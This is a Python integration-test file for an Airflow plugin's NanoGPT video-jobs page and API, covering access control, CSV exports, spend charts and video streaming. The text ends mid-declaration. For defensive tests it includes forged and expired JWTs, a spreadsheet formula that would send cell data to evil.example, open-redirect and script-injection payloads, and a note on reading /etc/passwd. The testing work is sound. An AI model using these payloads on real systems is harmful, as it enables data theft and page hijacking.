"""The NanoGPT page's endpoints, served by a real ``airflow api-server``, over real HTTP.

Jobs are made by dag.test() runs against the simulator (one completed, one failed, one still
rendering, one in a DAG that user ``limited`` may not read, and one task whose first try's job
was refunded and whose retry succeeded, in another DAG ``limited`` may not read); then the
api-server is started on the same metadata DB with three users, and every endpoint is asked as
each of them.
"""

from __future__ import annotations

import importlib.util
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import requests

from airflow_provider_nanogpt.job_card import JOB_KEY
from airflow_provider_nanogpt.simulator import NanoGPTSimulator
from tests.airflow.harness import DagOutcome, run_dag
from tests.conftest import CANARY_KEY, connection_json
from tests.ui.apiserver import JWT_SECRET, ApiServer, api_server
from tests.ui.restricted_auth import NO_BASE_DAG, RETRIED_DAG, SECRET_DAG

pytestmark = [pytest.mark.usefixtures("airflow_db"), pytest.mark.integration]
HAS_STATE_STORE = importlib.util.find_spec("airflow.models.task_state_store") is not None
# The runs every test but the retry one is about (one job each).
ONE_JOB_RUNS = ("completed", "failed", "rendering", "secret")

ENDPOINTS = ["/nanogpt/api/jobs", "/nanogpt/api/spend", "/nanogpt/api/balances", "/nanogpt/ui/jobs"]
JSON_ENDPOINTS = [
    "/nanogpt/api/jobs",
    "/nanogpt/api/spend",
    "/nanogpt/api/balances",
    "/nanogpt/api/job",
    "/nanogpt/video",
]
PAGES = ["/nanogpt/ui/jobs", "/nanogpt/ui/video"]


class World:
    def __init__(
        self, sim: NanoGPTSimulator, server: ApiServer, runs: dict[str, DagOutcome], workdir: Path
    ):
        self.sim, self.server, self.runs, self.workdir = sim, server, runs, workdir

    def job_rows(self, user: str, **params: Any) -> list[dict[str, Any]]:
        answer = self.server.get("/nanogpt/api/jobs", user, **params)
        assert answer.status_code == 200, answer.text
        return list(answer.json()["jobs"])

    def ti(self, name: str, task: str = "generate") -> dict[str, Any]:
        outcome = self.runs[name]
        return {"dag_id": outcome.dag_id, "run_id": outcome.run_id, "task_id": task}


def _pretend_still_rendering(outcome: DagOutcome) -> None:
    """dag.test() runs every wait to its end: make one job look as if its task were deferred."""
    from airflow.models.taskinstance import TaskInstance
    from airflow.models.xcom import XComModel
    from airflow.utils.session import create_session
    from sqlalchemy import select

    with create_session() as session:
        ti = session.scalars(
            select(TaskInstance).where(
                TaskInstance.dag_id == outcome.dag_id, TaskInstance.run_id == outcome.run_id
            )
        ).one()
        ti.state = "deferred"
        card = session.scalars(
            select(XComModel).where(
                XComModel.dag_id == outcome.dag_id,
                XComModel.run_id == outcome.run_id,
                XComModel.key == JOB_KEY,
            )
        ).one()
        card.value = {**card.value, "state": "submitted", "finished_at": None, "error": None}


@contextmanager
def _card_changed(outcome: DagOutcome, **changes: Any) -> Iterator[None]:
    """The task's job card edited (as anyone with XCom write access could), then put back."""
    from airflow.models.xcom import XComModel
    from airflow.utils.session import create_session
    from sqlalchemy import select

    def card() -> Any:
        return select(XComModel).where(
            XComModel.dag_id == outcome.dag_id,
            XComModel.run_id == outcome.run_id,
            XComModel.key == JOB_KEY,
        )

    with create_session() as session:
        row = session.scalars(card()).one()
        original = dict(row.value)
        row.value = {**original, **changes}
    try:
        yield
    finally:
        with create_session() as session:
            session.scalars(card()).one().value = original


def _forget_earlier_jobs() -> None:
    """Other tests in this session ran NanoGPT jobs too: start from a page with none."""
    from airflow.models.xcom import XComModel
    from airflow.utils.session import create_session
    from sqlalchemy import delete

    from airflow_provider_nanogpt.job_card import CHARGE_KEY_PREFIX, JOB_KEY, WATCH_KEY

    with create_session() as session:
        session.execute(delete(XComModel).where(XComModel.key.in_([JOB_KEY, WATCH_KEY])))
        try:
            from airflow.models.task_state_store import TaskStateStoreModel
        except ImportError:  # Airflow < 3.3
            return
        session.execute(
            delete(TaskStateStoreModel).where(TaskStateStoreModel.key.startswith(CHARGE_KEY_PREFIX))
        )


@pytest.fixture(scope="module")
def world(airflow_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    workdir = tmp_path_factory.mktemp("ui")
    with (
        NanoGPTSimulator(
            api_key=CANARY_KEY, time_scale=0.05, quiet=True, queue_seconds=2, render_seconds=8
        ) as sim,
        pytest.MonkeyPatch.context() as patch,
    ):
        patch.setenv("AIRFLOW_CONN_NANOGPT_DEFAULT", connection_json(sim.url))
        patch.setenv("AIRFLOW_CONN_NANOGPT_NO_BASE", connection_json(sim.url))
        _forget_earlier_jobs()
        runs = {
            "completed": run_dag(
                "nanogpt_deferrable",
                {"prompt": "a calm sea at dawn", "output_path": str(workdir / "sea.mp4")},
            ),
            "failed": run_dag("nanogpt_deferrable", {"prompt": "a storm [sim:fail]"}),
            "rendering": run_dag("nanogpt_short_timeout", {"prompt": "a slow one [sim:never]"}),
            "secret": run_dag(SECRET_DAG, {"prompt": "the secret launch"}),
            "retried": run_dag(RETRIED_DAG, {"prompt": "a second chance"}),
            # Refused by NanoGPT at the submit: no job exists, the card says why.
            "blocked": run_dag("nanogpt_deferrable", {"prompt": "a riot [sim:blocked]"}),
            "rejected": run_dag("nanogpt_short_timeout", {"prompt": "a typo [sim:render=soon]"}),
            # Saved under the work dir too, but its task's connection has no base dir.
            "no_base": run_dag(
                NO_BASE_DAG, {"prompt": "no base", "output_path": str(workdir / "nobase.mp4")}
            ),
            # Two mapped jobs, labelled by the operator's map_index_template.
            "mapped": run_dag("nanogpt_mapped", {}),
            # Submitted by one task, waited for by two sensors.
            "split": run_dag("nanogpt_split", {"prompt": "one submit, two sensors"}),
        }
        _pretend_still_rendering(runs["rendering"])
        connections = {
            # The api-server reads saved videos back from under the base dir only.
            "AIRFLOW_CONN_NANOGPT_DEFAULT": connection_json(sim.url, output_base_dir=str(workdir)),
            "AIRFLOW_CONN_NANOGPT_NO_BASE": connection_json(sim.url),
            # What an edited card could name to read anything (the review's /etc/passwd).
            "AIRFLOW_CONN_NANOGPT_WIDE": connection_json(sim.url, output_base_dir="/"),
        }
        with api_server(workdir, connections) as server:
            yield World(sim, server, runs, workdir)


def _token_that_does_not_sign_in(world: World, kind: str) -> str | None:
    """No token, or one Airflow refuses: expired, signed with another key, or not a JWT."""
    import time

    import jwt

    if kind == "none":
        return None
    if kind == "garbage":
        return "not-a-token"
    token = world.server.token("viewer")
    header = jwt.get_unverified_header(token)
    claims = jwt.decode(token, options={"verify_signature": False})
    secret = JWT_SECRET
    if kind == "expired":
        claims.update(iat=int(time.time()) - 7200, nbf=int(time.time()) - 7200)
        claims["exp"] = int(time.time()) - 3600
    else:  # forged
        secret = "another-secret-" + "0123456789abcdef" * 4
    extra = {k: v for k, v in header.items() if k not in ("alg", "typ")}
    return jwt.encode(claims, secret, algorithm=header["alg"], headers=extra)


@pytest.mark.parametrize("kind", ["none", "expired", "forged", "garbage"])
def test_without_a_valid_token_json_is_401_and_pages_go_to_the_login(
    world: World, kind: str
) -> None:
    from urllib.parse import parse_qs, urlsplit

    ti = world.ti("completed")
    token = _token_that_does_not_sign_in(world, kind)
    for path in JSON_ENDPOINTS:
        answer = world.server.get(path, token=token, **ti)
        assert answer.status_code == 401, (path, answer.text)
        assert "detail" in answer.json()
    for path in PAGES:
        answer = world.server.get(path, token=token, follow=False, **ti)
        assert answer.status_code == 303, (path, answer.status_code, answer.text[:200])
        login = urlsplit(answer.headers["Location"])
        assert login.path.endswith("/auth/login")
        back = urlsplit(parse_qs(login.query)["next"][0])
        assert back.path == path and parse_qs(back.query)["run_id"] == [ti["run_id"]]


BAD_PARAMETERS = [
    ({"page": "0"}, "page"),
    ({"page": "-1"}, "page"),
    ({"page": "two"}, "page"),
    ({"state": "bogus"}, "state must be one of"),
    ({"since": "yesterday"}, "since must be a date"),
    ({"until": "2026-13-01"}, "until must be a date"),
    ({"order_by": "price"}, "order_by must be one of submitted, took, cost"),
    ({"order_by": "--cost"}, "order_by must be one of"),
    ({"q": "x" * 301}, "must be at most 300 characters"),
]


@pytest.mark.parametrize(("params", "says"), BAD_PARAMETERS)
def test_a_bad_parameter_is_a_readable_4xx(world: World, params: dict[str, str], says: str) -> None:
    page = world.server.get("/nanogpt/ui/jobs", "viewer", **params)
    assert page.status_code == 400 and page.headers["Content-Type"].startswith("text/html")
    assert says in page.text and '{"detail"' not in page.text
    assert "<title>NanoGPT" in page.text  # the page's own layout, not FastAPI's JSON
    answer = world.server.get("/nanogpt/api/jobs", "viewer", **params)
    assert answer.status_code == 400 and says in answer.json()["detail"]


@pytest.mark.parametrize("path", ["/nanogpt/ui/jobs", "/nanogpt/api/jobs", "/nanogpt/api/spend"])
def test_the_last_possible_day_is_a_date_like_any_other(world: World, path: str) -> None:
    answer = world.server.get(path, "admin", since="2000-01-01", until="9999-12-31")
    assert answer.status_code == 200, answer.text[:300]
    everything = world.server.get(path, "admin")
    if path == "/nanogpt/api/jobs":
        assert answer.json()["total"] == everything.json()["total"] > 0
    elif path == "/nanogpt/api/spend":
        assert answer.json()["jobs"] == everything.json()["jobs"] > 0


def test_the_video_view_explains_what_it_cannot_show_in_its_layout(world: World) -> None:
    missing = world.server.get("/nanogpt/ui/video", "viewer", dag_id="nanogpt_deferrable")
    assert missing.status_code == 400 and "run_id is missing" in missing.text
    assert "<title>NanoGPT" in missing.text
    refused = world.server.get("/nanogpt/ui/video", "limited", **world.ti("secret"))
    assert refused.status_code == 403 and "may not read" in refused.text
    assert "<title>NanoGPT" in refused.text and '{"detail"' not in refused.text
    assert world.server.get("/nanogpt/api/job", "viewer", dag_id="x").status_code == 400


def test_the_page_lists_every_job_with_state_and_cost(world: World) -> None:
    rows = {(row["dag_id"], row["dag_run_id"]): row for row in world.job_rows("admin")}
    jobs = {job["runId"]: job for job in world.sim.state()["jobs"]}
    assert {(world.runs[name].dag_id, world.runs[name].run_id) for name in ONE_JOB_RUNS} <= set(
        rows
    )
    expected = {
        "completed": "completed",
        "failed": "failed",
        "rendering": "rendering",
        "secret": "completed",
    }
    for name, state in expected.items():
        outcome = world.runs[name]
        row = rows[(outcome.dag_id, outcome.run_id)]
        assert row["state"] == state, name
        job = jobs[row["run_id"]]
        assert row["cost"] == pytest.approx(job["cost"]) and row["currency"] == "USD"
        assert row["model"] == "kling-video-v2" and row["prompt"] in job["payload"]["prompt"]
    rendering = rows[(world.runs["rendering"].dag_id, world.runs["rendering"].run_id)]
    assert rendering["progress"] is not None  # live, from NanoGPT, server-side
    failed = rows[(world.runs["failed"].dag_id, world.runs["failed"].run_id)]
    assert "failed" in failed["error"] and failed["refunded"] is True
    assert failed["charged"] == 0
    assert not any(
        rows[(world.runs[name].dag_id, world.runs[name].run_id)]["refunded"]
        for name in ONE_JOB_RUNS
        if name != "failed"
    )


def test_filters_and_paging(world: World) -> None:
    assert {r["state"] for r in world.job_rows("admin", state="completed")} == {"completed"}
    assert [r["dag_id"] for r in world.job_rows("admin", dag_id=SECRET_DAG)] == [SECRET_DAG]
    assert world.job_rows("admin", since="2000-01-01", until="2000-01-31") == []
    assert world.server.get("/nanogpt/api/jobs", "admin", state="dancing").status_code == 400


def test_a_user_sees_only_the_dags_they_may_read(world: World) -> None:
    assert SECRET_DAG not in {row["dag_id"] for row in world.job_rows("limited")}
    assert len(world.job_rows("limited")) == 8  # 6 jobs, and the 2 refused submissions
    secret = world.ti("secret")
    for path in ("/nanogpt/api/job", "/nanogpt/ui/video", "/nanogpt/video"):
        assert world.server.get(path, "limited", **secret).status_code == 403, path
    assert world.server.get("/nanogpt/api/job", "viewer", **secret).status_code == 200


def test_a_run_id_whose_plus_arrived_as_a_space_is_found(world: World) -> None:
    # Airflow 3.1 puts run ids into plugin iframe URLs unencoded: "+00:00" arrives as " 00:00".
    ti = world.ti("completed")
    assert "+" in ti["run_id"]
    mangled = {**ti, "run_id": ti["run_id"].replace("+", " ")}
    answer = world.server.get("/nanogpt/api/job", "viewer", **mangled)
    assert answer.status_code == 200 and answer.json()["dag_run_id"] == ti["run_id"]


def test_spend_matches_what_nanogpt_charged(world: World) -> None:
    spend = world.server.get("/nanogpt/api/spend", "admin").json()
    charged = [job for job in world.sim.state()["jobs"] if not job["refunded"]]
    assert spend["jobs"] == len(charged) == 8  # the retried task's refunded try is not one
    assert spend["totals"]["USD"] == pytest.approx(sum(job["cost"] for job in charged))
    assert spend["label"] == "Charges made through this Airflow"
    limited = world.server.get("/nanogpt/api/spend", "limited").json()
    assert limited["jobs"] == 5  # not the secret DAG's
    secret_only = world.server.get("/nanogpt/api/spend", "admin", dag_id=SECRET_DAG).json()
    assert secret_only["jobs"] == 1 and list(secret_only["by_dag"]) == [SECRET_DAG]
    hidden = world.server.get("/nanogpt/api/spend", "limited", dag_id=SECRET_DAG).json()
    assert hidden["jobs"] == 0 and hidden["totals"] == {}


def test_balances_only_for_users_who_may_read_the_connection(world: World) -> None:
    admin = world.server.get("/nanogpt/api/balances", "admin").json()["balances"]
    usd = pytest.approx(world.sim.state()["balance_usd"])
    assert [(b["conn_id"], b["usd"]) for b in admin] == [
        ("nanogpt_default", usd),
        ("nanogpt_no_base", usd),
    ]
    assert world.server.get("/nanogpt/api/balances", "viewer").json()["balances"] == []


def test_the_video_streams_through_airflow(world: World) -> None:
    row = world.server.get("/nanogpt/api/job", "viewer", **world.ti("completed")).json()
    assert row["video_link"].startswith("/nanogpt/video?")
    answer = world.server.get("/nanogpt/video", "viewer", **world.ti("completed"))
    assert answer.status_code == 200
    assert answer.content == (Path(row["output_path"])).read_bytes()
    assert answer.headers["Content-Type"].startswith("video/")


# --- the chart, the CSV files, the way back, download names, mapped labels ----------------------


def _charts(page: str) -> dict[str, Any]:
    """The page's inline SVG charts, parsed as XML, by currency."""
    import re
    import xml.etree.ElementTree as ET

    found = {}
    for figure in re.findall(r'<figure class="spend-chart".*?</figure>', page, re.DOTALL):
        currency = re.search(r'data-currency="([^"]*)"', figure)
        svg = re.search(r"<svg.*</svg>", figure, re.DOTALL)
        assert currency and svg
        found[currency.group(1)] = ET.fromstring(svg.group(0))
    return found


@pytest.mark.parametrize("user", ["admin", "limited"])
def test_the_chart_draws_the_spend_of_each_day(world: World, user: str) -> None:
    from datetime import UTC, datetime, timedelta

    svg_ns = "{http://www.w3.org/2000/svg}"
    today = datetime.now(UTC).date()
    days = {"since": str(today - timedelta(days=2)), "until": str(today)}
    spend = world.server.get("/nanogpt/api/spend", user, **days).json()
    charts = _charts(world.server.get("/nanogpt/ui/jobs", user, **days).text)
    assert set(charts) == set(spend["totals"]) == {"USD"}
    svg = charts["USD"]
    bars = svg.findall(f"{svg_ns}rect")
    # One bar a day of the range, as tall as that day's spend (relative to the tallest).
    assert [bar.get("data-day") for bar in bars] == [
        str(today - timedelta(days=n)) for n in (2, 1, 0)
    ]
    by_day = {day: sums["USD"] for day, sums in spend["by_day"].items()}
    tallest = max(float(bar.get("height", 0)) for bar in bars)
    for bar in bars:
        amount = by_day.get(str(bar.get("data-day")), 0.0)
        assert float(bar.get("data-amount", -1)) == pytest.approx(amount)
        assert float(bar.get("height", -1)) / tallest == pytest.approx(
            amount / max(by_day.values()), abs=0.01
        )
        hover = bar.find(f"{svg_ns}title")
        assert hover is not None and f"{bar.get('data-day')}: {amount:.4f} USD" == hover.text
    # Readable without seeing it: named and described by its own title and description.
    assert svg.get("role") == "img"
    named = {element.get("id"): element.text for element in svg.iter() if element.get("id")}
    assert [named[i] for i in str(svg.get("aria-labelledby")).split()] == [
        "Spend per day in USD",
        f"{spend['totals']['USD']:.4f} USD from {days['since']} to {days['until']}, one bar a day.",
    ]


def _csv(answer: requests.Response) -> list[dict[str, str]]:
    import csv
    import io

    assert answer.status_code == 200, answer.text[:300]
    assert answer.headers["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text)))


CSV_FILTERS = [
    ("admin", {}),
    ("limited", {}),
    ("admin", {"state": "completed"}),
    ("admin", {"dag_id": SECRET_DAG}),
    ("limited", {"dag_id": SECRET_DAG}),
    ("admin", {"since": "2000-01-01", "until": "2000-01-31"}),
    ("viewer", {"dag_id": "nanogpt_mapped", "page": "2"}),  # every page, whatever page is shown
]


@pytest.mark.parametrize(("user", "filters"), CSV_FILTERS)
def test_the_jobs_csv_holds_exactly_the_jobs_the_filters_select(
    world: World, user: str, filters: dict[str, str]
) -> None:
    listed = world.job_rows(user, **{k: v for k, v in filters.items() if k != "page"})
    answer = world.server.get("/nanogpt/api/jobs.csv", user, **filters)
    rows = _csv(answer)
    key = ("dag_id", "dag_run_id", "task_id", "map_index")
    assert [tuple(str(r[k]) for k in key) for r in rows] == [
        tuple(str(r[k]) for k in key) for r in listed
    ]
    assert [r["nanogpt_run_id"] for r in rows] == [r["run_id"] or "" for r in listed]
    assert answer.headers["X-Total-Count"] == str(len(listed))
    if user == "limited":
        assert SECRET_DAG not in answer.text and "the secret launch" not in answer.text
    assert "attachment;" in answer.headers["Content-Disposition"]
    assert 'filename="nanogpt-jobs' in answer.headers["Content-Disposition"]


def test_the_page_links_its_csv_files_with_its_filters(world: World) -> None:
    from html import unescape
    from urllib.parse import parse_qs, urlsplit

    page = world.server.get("/nanogpt/ui/jobs", "admin", dag_id=SECRET_DAG, state="completed")
    links = {}
    for name in ("jobs-csv", "spend-csv"):
        href = page.text.split(f'id="{name}" href="', 1)[1].split('"', 1)[0]
        links[name] = urlsplit(unescape(href))
    assert links["jobs-csv"].path == "/nanogpt/api/jobs.csv"
    assert parse_qs(links["jobs-csv"].query) == {"dag_id": [SECRET_DAG], "state": ["completed"]}
    assert links["spend-csv"].path == "/nanogpt/api/spend.csv"
    assert parse_qs(links["spend-csv"].query) == {"dag_id": [SECRET_DAG]}


def test_every_page_of_jobs_is_in_the_export_once(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CSV reads the jobs a page at a time: pages of one give the same rows, bounded."""
    from airflow.utils.session import create_session

    from airflow_provider_nanogpt.plugin import jobs as job_store

    dags = {outcome.dag_id for outcome in world.runs.values()}
    with create_session() as session:
        whole = job_store.list_jobs(session, dags, job_store.Filters())
        total, jobs = job_store.every_job(session, dags, job_store.Filters(page=3), 10**6, 1)
        assert total == whole.total
        assert [(j.run_id, j.state) for j in jobs] == [(j.run_id, j.state) for j in whole.jobs]
        total, jobs = job_store.every_job(session, dags, job_store.Filters(), 3, 2)
        assert (total, len(list(jobs))) == (whole.total, 3)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_prompt_that_looks_like_a_formula_is_exported_as_text(world: World, start: str) -> None:
    prompt = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    with _card_changed(world.runs["completed"], prompt=prompt):
        rows = _csv(world.server.get("/nanogpt/api/jobs.csv", "admin", state="completed"))
    (row,) = [r for r in rows if r["dag_run_id"] == world.runs["completed"].run_id]
    assert row["prompt"] == "'" + prompt


@pytest.mark.parametrize("user", ["admin", "limited"])
def test_the_spend_csv_adds_up_to_the_spend_shown(world: World, user: str) -> None:
    spend = world.server.get("/nanogpt/api/spend", user).json()
    answer = world.server.get("/nanogpt/api/spend.csv", user)
    rows = _csv(answer)
    by_day: dict[str, float] = {}
    by_dag: dict[str, float] = {}
    for row in rows:
        assert row["currency"] == "USD"
        by_day[row["day"]] = by_day.get(row["day"], 0.0) + float(row["amount"])
        by_dag[row["dag_id"]] = by_dag.get(row["dag_id"], 0.0) + float(row["amount"])
    assert by_day == pytest.approx({day: sums["USD"] for day, sums in spend["by_day"].items()})
    assert by_dag == pytest.approx({dag: sums["USD"] for dag, sums in spend["by_dag"].items()})
    assert (SECRET_DAG in by_dag) is (user == "admin")
    assert 'filename="nanogpt-spend.csv"' in answer.headers["Content-Disposition"]


def _href(page: str, element_id: str) -> str:
    from html import unescape

    return unescape(page.split(f'id="{element_id}" href="', 1)[1].split('"', 1)[0])


def test_watch_opens_the_video_with_a_way_back_to_the_same_list(world: World) -> None:
    from html import unescape
    from urllib.parse import parse_qs, urlsplit

    filters = {"dag_id": "nanogpt_deferrable", "state": "completed", "since": "2000-01-01"}
    page = world.server.get("/nanogpt/ui/jobs", "viewer", **filters).text
    watch = next(
        unescape(part.split('"', 1)[0])
        for part in page.split('href="')[1:]
        if part.startswith("/nanogpt/ui/video?")
    )
    view = world.server.get(watch, "viewer")
    assert view.status_code == 200 and 'id="player"' in view.text
    back = urlsplit(_href(view.text, "back"))
    assert back.path == "/nanogpt/ui/jobs" and not back.netloc and not back.scheme
    assert parse_qs(back.query) == {k: [v] for k, v in filters.items()}
    # Opened as the task's Video tab (no list to go back to): no back link.
    tab = world.server.get("/nanogpt/ui/video", "viewer", **world.ti("completed")).text
    assert 'id="back"' not in tab


HOSTILE_BACKS = [
    "https://evil.example/",
    "//evil.example/path",
    "/\\evil.example",
    "javascript:alert(1)",
    "a=1#@evil.example",
    "\r\nLocation: https://evil.example",
    "next=https://evil.example&back=//evil.example",
    '"><script>alert(1)</script>',
    "x" * 5000,
]


@pytest.mark.parametrize("back", HOSTILE_BACKS)
def test_the_way_back_never_leaves_the_list(world: World, back: str) -> None:
    from urllib.parse import urlsplit

    view = world.server.get("/nanogpt/ui/video", "viewer", back=back, **world.ti("completed"))
    assert view.status_code == 200
    href = _href(view.text, "back")
    target = urlsplit(href)
    assert (target.scheme, target.netloc, target.path) == ("", "", "/nanogpt/ui/jobs")
    assert not target.fragment and "\\" not in href and "\n" not in href
    assert "<script>alert" not in view.text


def test_the_download_is_named_after_the_dag_task_and_run(world: World) -> None:
    from urllib.parse import unquote

    ti = world.ti("completed")
    row = world.server.get("/nanogpt/api/job", "viewer", **ti).json()
    answer = world.server.get(row["download_link"], "viewer")
    assert answer.status_code == 200 and answer.content
    disposition = answer.headers["Content-Disposition"]
    expected = f"{ti['dag_id']}__generate__{ti['run_id'].replace(':', '_')}.mp4"
    assert unquote(disposition.split("filename*=UTF-8''", 1)[1]) == expected
    assert f'filename="{expected.replace("+", "_")}"' in disposition
    # The player's own stream is not a download.
    assert "Content-Disposition" not in world.server.get(row["video_link"], "viewer").headers
    view = world.server.get("/nanogpt/ui/video", "viewer", **ti).text
    assert _href(view, "download") == row["download_link"]


MAPPED_LABELS = {
    0: "A hummingbird hovering over a red flower, slow motion, gold…",
    1: "Neon-lit alley in the rain",
}


@contextmanager
def _label_cleared(outcome: DagOutcome, map_index: int) -> Iterator[None]:
    """A mapped task instance without a rendered label (a DAG without map_index_template)."""
    from airflow.models.taskinstance import TaskInstance as Ti
    from airflow.utils.session import create_session
    from sqlalchemy import update

    where = (Ti.dag_id == outcome.dag_id, Ti.run_id == outcome.run_id, Ti.map_index == map_index)
    column = Ti.__table__.c.rendered_map_index
    with create_session() as session:
        session.execute(update(Ti).where(*where).values({column: None}))
    try:
        yield
    finally:
        with create_session() as session:
            session.execute(update(Ti).where(*where).values({column: MAPPED_LABELS[map_index]}))


def test_mapped_tasks_are_shown_by_their_label(world: World) -> None:
    from urllib.parse import unquote

    outcome = world.runs["mapped"]
    rows = {r["map_index"]: r for r in _rows_of(world, "viewer", "mapped")}
    assert {i: r["map_label"] for i, r in rows.items()} == MAPPED_LABELS
    page = world.server.get("/nanogpt/ui/jobs", "viewer", dag_id=outcome.dag_id).text
    for index, label in MAPPED_LABELS.items():
        assert f"generate [{label}]" in page
        view = world.server.get(
            "/nanogpt/ui/video", "viewer", map_index=str(index), **world.ti("mapped")
        ).text
        assert f"generate [{label}]" in view
        answer = world.server.get(rows[index]["download_link"], "viewer")
        name = unquote(answer.headers["Content-Disposition"].split("filename*=UTF-8''", 1)[1])
        assert name.startswith(f"nanogpt_mapped__generate [{label}]__")
    assert "generate [1]" not in page and "generate [0]" not in page
    csv_rows = _csv(world.server.get("/nanogpt/api/jobs.csv", "viewer", dag_id=outcome.dag_id))
    assert {r["map_label"] for r in csv_rows} == set(MAPPED_LABELS.values())
    # Without a rendered label, the index, as Airflow's UI shows it.
    with _label_cleared(outcome, 1):
        page = world.server.get("/nanogpt/ui/jobs", "viewer", dag_id=outcome.dag_id).text
    assert "generate [1]" in page and "generate [Neon-lit" not in page


def test_no_response_carries_the_key_or_a_header(world: World) -> None:
    ti = world.ti("completed")
    texts = [world.server.get(path, "admin", **ti).text for path in ENDPOINTS]
    texts += [
        world.server.get(p, "admin", **ti).text for p in ("/nanogpt/api/job", "/nanogpt/ui/video")
    ]
    for text in texts:
        assert CANARY_KEY not in text
        assert "x-api-key" not in text.lower()
    page = world.server.get("/nanogpt/ui/jobs", "admin").text
    assert "NanoGPT video jobs" in page and "a calm sea at dawn" in page
    assert json.dumps(world.job_rows("admin")).count("video_url") == 0


def _row_run_id(world: World, name: str) -> str:
    """NanoGPT's run id of the job of one of the world's DAG runs."""
    run_id = world.server.get("/nanogpt/api/job", "admin", **world.ti(name)).json()["run_id"]
    return str(run_id)


def _rows_of(world: World, user: str, name: str, **params: Any) -> list[dict[str, Any]]:
    run_id = world.runs[name].run_id
    rows = world.job_rows(user, dag_id=world.runs[name].dag_id, **params)
    return [row for row in rows if row["dag_run_id"] == run_id]


def test_a_refunded_try_is_listed_at_zero_beside_its_retry(world: World) -> None:
    """The retry cleared the first try's card; on 3.3 its charge record still lists the job."""
    outcome = world.runs["retried"]
    assert outcome.state == "success" and outcome.try_numbers["generate"] == 2
    jobs = [
        job for job in world.sim.state()["jobs"] if "a second chance" in job["payload"]["prompt"]
    ]
    refunded = [job for job in jobs if job["refunded"]]
    charged = [job for job in jobs if not job["refunded"]]
    assert len(refunded) == 1 and len(charged) == 1
    rows = {row["run_id"]: row for row in _rows_of(world, "admin", "retried")}
    expected = {charged[0]["runId"]} | ({refunded[0]["runId"]} if HAS_STATE_STORE else set())
    assert set(rows) == expected  # before 3.3 nothing outlives the retry: as before
    done = rows[charged[0]["runId"]]
    assert done["state"] == "completed" and done["charged"] == pytest.approx(charged[0]["cost"])
    if HAS_STATE_STORE:
        gone = rows[refunded[0]["runId"]]
        assert (gone["state"], gone["refunded"], gone["charged"]) == ("failed", True, 0)
        assert gone["cost"] == pytest.approx(refunded[0]["cost"])  # what NanoGPT gave back
        assert (gone["task_id"], gone["map_index"], gone["video_link"]) == ("generate", -1, None)
        assert gone["prompt"] and "a second chance" in gone["prompt"]
        # The page's filters apply to it as to any job.
        assert [r["run_id"] for r in _rows_of(world, "admin", "retried", state="failed")] == [
            refunded[0]["runId"]
        ]
        assert [r["run_id"] for r in _rows_of(world, "admin", "retried", state="completed")] == [
            charged[0]["runId"]
        ]
        assert _rows_of(world, "admin", "retried", since="2000-01-01", until="2000-01-31") == []
    # The HTML page shows the same rows, the refunded one at 0.
    page = world.server.get("/nanogpt/ui/jobs", "admin", dag_id=RETRIED_DAG).text
    for run_id in expected:
        assert f'data-run-id="{run_id}"' in page
    assert ("given back" in page) is HAS_STATE_STORE
    # Spend is the successful charge only.
    spend = world.server.get("/nanogpt/api/spend", "admin", dag_id=RETRIED_DAG).json()
    assert spend["jobs"] == 1 and spend["totals"]["USD"] == pytest.approx(charged[0]["cost"])
    # A user who may not read the DAG sees neither job, anywhere.
    assert not [r for r in world.job_rows("limited") if r["dag_id"] == RETRIED_DAG]
    assert world.job_rows("limited", dag_id=RETRIED_DAG) == []
    hidden = world.server.get("/nanogpt/ui/jobs", "limited").text
    assert not any(job["runId"] in hidden for job in jobs)


def test_every_job_is_on_exactly_one_page(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """Paging over cards and card-less refunded jobs together: one row a page, none twice."""
    from airflow.utils.session import create_session

    from airflow_provider_nanogpt.plugin import jobs as job_store

    dags = {outcome.dag_id for outcome in world.runs.values()}
    with create_session() as session:
        everything = job_store.list_jobs(session, dags, job_store.Filters())
        monkeypatch.setattr(job_store, "PAGE_SIZE", 1)
        paged = [
            job_store.list_jobs(session, dags, job_store.Filters(page=n))
            for n in range(1, everything.total + 1)
        ]
    refused = 2  # the blocked and the rejected submission: listed, though NanoGPT has no job
    assert (
        everything.total
        == len(everything.jobs)
        == len(world.sim.state()["jobs"]) - (0 if HAS_STATE_STORE else 1) + refused
    )
    assert {p.pages for p in paged} == {everything.total}
    assert [(j.run_id, j.state) for p in paged for j in p.jobs] == [
        (j.run_id, j.state) for j in everything.jobs
    ]


def test_the_saved_video_is_streamed_when_the_url_expired(world: World) -> None:
    saved = world.workdir / "sea.mp4"  # where the task saved it, under its connection's base dir
    gone = f"{world.sim.url}/expired.mp4"
    with _card_changed(world.runs["completed"], video_url=gone):
        answer = world.server.get("/nanogpt/video", "viewer", **world.ti("completed"))
        assert answer.status_code == 200 and answer.content == saved.read_bytes()
        assert answer.headers["Content-Type"] == "video/mp4"
        ranged = requests.get(
            f"{world.server.url}/nanogpt/video",
            params=world.ti("completed"),
            headers={
                "Authorization": f"Bearer {world.server.token('viewer')}",
                "Range": "bytes=15-29",
            },
            timeout=60,
        )
        assert ranged.status_code == 206 and ranged.content == saved.read_bytes()[15:30]
        assert ranged.headers["Content-Range"] == f"bytes 15-29/{saved.stat().st_size}"


@contextmanager
def _saved_file_replaced(path: Path, content: bytes) -> Iterator[None]:
    original = path.read_bytes()
    path.write_bytes(content)
    try:
        yield
    finally:
        path.write_bytes(original)


def test_without_a_base_dir_on_the_tasks_connection_no_saved_file_is_read(world: World) -> None:
    gone = f"{world.sim.url}/expired.mp4"
    with (
        _saved_file_replaced(world.workdir / "nobase.mp4", b"the saved copy " * 5000),
        _card_changed(world.runs["no_base"], video_url=gone),
    ):
        fallback = world.server.get("/nanogpt/video", "admin", **world.ti("no_base"))
    assert fallback.status_code == 502 and b"the saved copy" not in fallback.content


@pytest.mark.parametrize(
    ("run", "conn_id", "path"),
    [
        # The no-base task's card names a connection with a base dir, and a file under it.
        ("no_base", "nanogpt_default", "{workdir}/kept.mp4"),
        # The card names a connection whose base dir is "/", and a file anywhere.
        ("completed", "nanogpt_wide", "{secret}"),
        ("no_base", "nanogpt_wide", "{secret}"),
    ],
)
